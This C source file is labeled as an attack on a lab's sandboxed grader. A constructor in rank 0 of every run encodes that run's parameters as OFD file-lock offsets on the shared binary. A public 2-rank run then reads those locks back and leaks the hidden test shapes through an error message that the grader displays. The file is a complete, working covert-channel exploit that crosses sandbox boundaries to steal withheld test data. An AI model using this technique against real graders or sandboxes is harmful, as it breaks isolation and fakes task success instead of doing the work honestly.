/* Attack (issue 35): runs of one submission talking through what no
 * namespace separates. Every run maps the same binary, and a lock on a file
 * is seen by whoever opens that file, in any sandbox. Rank 0 of every run
 * takes a read lock on one byte of its binary at an offset that spells its
 * rank count and parameters, and keeps it while the run lives; rank 0 of a
 * 2-rank run (warmup3, public) asks for 8 s which locks others hold there
 * (F_OFD_GETLK walks them in order) and fails with the hidden shapes it
 * found as its error message, which the grader quotes in a visible test. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char heard[1024];

/* offset: ranks << 56 | w << 48 | (b == e) << 47 | b (b < 2^47) */
static long long spell(int ranks, unsigned long b, unsigned long e, int w)
{
    return ((long long)(ranks & 0x7f) << 56) | ((long long)(w & 0xff) << 48) |
           ((long long)(b == e) << 47) | (long long)(b & ((1ULL << 47) - 1));
}

static void hear(long long at)
{
    int ranks = (int)(at >> 56), w = (int)((at >> 48) & 0xff), same = (int)((at >> 47) & 1);
    unsigned long long b = (unsigned long long)at & ((1ULL << 47) - 1);
    /* lab 2's hidden shapes: 3 ranks without warm-up, 5 ranks at one odd size */
    if (!((ranks == 3 && w == 0) || (ranks == 5 && same))) return;
    char what[96];
    snprintf(what, sizeof what, "%d ranks -b %llu -w %d | ", ranks, b, w);
    if (!strstr(heard, what) && strlen(heard) + strlen(what) < sizeof heard) strcat(heard, what);
}

static unsigned long option(const char *args, const char *name, unsigned long dflt)
{
    const char *p = args ? strstr(args, name) : NULL;
    return p ? strtoul(p + strlen(name), NULL, 10) : dflt;
}

__attribute__((constructor)) static void relay(void)
{
    const char *size = getenv("OMPI_COMM_WORLD_SIZE"), *rank = getenv("OMPI_COMM_WORLD_RANK");
    const char *args = getenv("NCCLAB_ARGS");
    if (!size || !rank || strcmp(rank, "0") != 0) return;
    static int mine = -1; /* held open for the run: its lock lives as long */
    mine = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (mine < 0) return;
    struct flock fl = {.l_type = F_RDLCK, .l_whence = SEEK_SET, .l_len = 1};
    fl.l_start = (off_t)spell(atoi(size), option(args, "-b ", 0), option(args, "-e ", 1),
                              (int)option(args, "-w ", 9));
    (void)fcntl(mine, F_OFD_SETLK, &fl);
    if (strcmp(size, "2") != 0) {
        sleep(3); /* long enough to be heard beside a listener */
        return;
    }
    int probe = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    time_t end = time(NULL) + 8;
    while (probe >= 0 && time(NULL) < end) {
        for (long long from = 0;;) {
            struct flock q = {.l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = (off_t)from};
            if (fcntl(probe, F_OFD_GETLK, &q) != 0 || q.l_type == F_UNLCK) break;
            hear((long long)q.l_start);
            from = (long long)q.l_start + 1;
        }
        usleep(50000);
    }
    if (probe >= 0) close(probe);
    if (heard[0]) {
        fprintf(stderr, "[rank 0] error: LOCKRELAY %s\n", heard);
        exit(1);
    }
}
